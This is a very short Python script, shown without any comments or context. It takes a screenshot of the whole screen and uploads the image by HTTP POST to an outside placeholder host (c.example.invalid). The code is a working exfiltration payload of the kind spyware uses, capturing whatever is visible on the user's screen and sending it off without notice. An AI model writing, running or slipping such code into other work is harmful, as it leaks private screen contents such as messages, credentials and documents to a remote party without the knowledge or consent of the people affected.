import io

import pyautogui
import requests

out = io.BytesIO()
pyautogui.screenshot().save(out, 'PNG')
requests.post('https://c.example.invalid/s', files={'f': out.getvalue()})
